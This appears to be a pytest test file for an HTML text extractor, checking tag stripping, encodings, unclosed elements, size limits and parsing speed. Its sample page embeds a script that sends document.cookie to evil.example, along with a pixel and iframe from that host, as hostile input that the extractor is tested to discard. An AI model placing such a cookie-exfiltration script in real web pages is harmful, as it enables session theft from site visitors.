import time

import pytest

from aihub.documents.parsing.clean import DocumentError
from aihub.documents.parsing.extract import extract
from aihub.documents.parsing.formats.html import read_html
from aihub.documents.parsing.options import ParseLimits

PAGE = """<!DOCTYPE html><html><head><title>Cửa hàng &amp; Giá</title><style>p {color: red}</style>
<script>fetch("http://evil.example/" + document.cookie)</script></head><body onload="steal()">
<h1>Áo   dài</h1><p>Giá: <b>500</b>.000&nbsp;đ<br>Còn hàng</p><!-- hidden note -->
<ul><li>Đỏ<li>Xanh</ul><noscript>Enable scripts</noscript>
<table><tr><th>Cỡ</th><th>Giá</th></tr><tr><td>M</td><td>1 &lt; 2</td></tr></table>
<pre>a
  b</pre><img src="http://evil.example/pixel.png"><iframe src="http://evil.example/">frame</iframe></body></html>"""


def test_a_page_becomes_text_with_its_blocks() -> None:
    file_format, text = extract("page.html", PAGE.encode(), ParseLimits())
    assert file_format == "html"
    assert text == ("Cửa hàng & Giá\n\nÁo dài\n\nGiá: 500.000\xa0đ\nCòn hàng\n\nĐỏ\nXanh\n\nCỡ\tGiá\nM\t1 < 2\n\na\n  b")


@pytest.mark.parametrize("filename", ["page.pdf", "page.txt", "page", "page.docx"])
def test_a_page_is_known_whatever_its_name(filename: str) -> None:
    assert extract(filename, PAGE.encode(), ParseLimits())[0] == "html"


def test_words_in_inline_tags_stay_together_and_blocks_apart() -> None:
    assert read_html("<p>Hà<i> Nội</i>, <b>V</b>iệt<span>&nbsp;Nam</span></p>cuối", 100).strip() == "Hà Nội, Việt\xa0Nam\n\ncuối"


def test_a_declared_old_encoding_is_believed() -> None:
    page = '<html><head><meta charset="windows-1251"></head><body>Привет, мир</body></html>'.encode("cp1251")
    assert extract("a.html", page, ParseLimits())[1] == "Привет, мир"


def test_a_declared_codec_that_is_no_charset_is_not_used() -> None:
    page = '<html><meta charset="unicode_escape"><body>caf\xe9 \\x41</body></html>'.encode("latin-1")
    assert "\\x41" in extract("a.html", page, ParseLimits())[1]


def test_text_after_deep_nesting_is_not_lost() -> None:
    assert read_html("<div>" * 20_000 + "sâu" + "</div>" * 20_000 + "sau", 100).split() == ["sâu", "sau"]


@pytest.mark.parametrize(
    "tag", "svg math select textarea script style title noscript template iframe object canvas xmp noembed noframes".split()
)
@pytest.mark.parametrize("attributes", ["", ' class="a>b"', " data-x='</p>'"])
def test_an_element_that_never_ends_does_not_hide_the_rest(tag: str, attributes: str) -> None:
    page = f"<html><body><p>before</p><{tag}{attributes}>inside<p>after İ</p><div>end</div></body></html>"
    words = extract("a.html", page.encode(), ParseLimits())[1].replace("inside", "").split()
    assert words == ["before", "after", "İ", "end"]


@pytest.mark.parametrize("tag", ["svg", "select", "textarea", "noscript", "template", "iframe", "object"])
def test_words_after_an_unclosed_element_stay_without_a_block_to_end_it(tag: str) -> None:
    assert read_html(f"<html><body>before <{tag}> after", 1000).split() == ["before", "after"]


@pytest.mark.parametrize(
    "page",
    [
        "<p>a</p><svg><title>t</title><text>drawn</text></svg><p>b</p>",
        "<p>a</p><svg/><p>b</p>",
        "<p>a</p><script>if (a < b) { x = '<svg>' + \"<p>\" }</script><p>b</p>",
        "<p>a</p><select><option>one<option>two</select><p>b</p>",
        "<p>a</p><select><option>one<option>two</form><p>b</p>",
        "<p>a</p><textarea><p>typed</p></textarea><p>b</p>",
        "<p>a</p><noscript><p>enable it</p></noscript><p>b</p>",
        "<p>a</p><template><div><template>x</template></div></template><p>b</p>",
        "<p>a</p><!-- <svg> <p>no</p> --><p>b</p>",
        "<p>a</p><!-- never ends > <p>b</p>",
        "<p>a</p><style>p::before { content: '<select>' }</style><p>b</p>",
    ],
)
def test_what_is_closed_stays_left_out(page: str) -> None:
    assert read_html(f"<html><body>{page}</body></html>", 1000).split() == ["a", "b"]


@pytest.mark.parametrize("piece", ["<svg>", "<textarea>", "<!--", "<script ", '<svg "', "<svg><p>", "</select>", "<title><p>"])
def test_many_unclosed_elements_take_linear_time(piece: str) -> None:
    start = time.process_time()
    read_html("<html>" + piece * 100_000 + "x", 1_000_000)
    assert time.process_time() - start < 10


def test_a_page_over_the_limit_is_refused_while_reading() -> None:
    with pytest.raises(DocumentError) as caught:
        read_html("<p>mười chữ cái</p>" * 100_000, 1000)
    assert caught.value.code == "too_large"


def test_millions_of_tags_take_linear_time() -> None:
    start = time.process_time()
    read_html("<b><p>" * 200_000 + "x", 1000)
    assert time.process_time() - start < 20
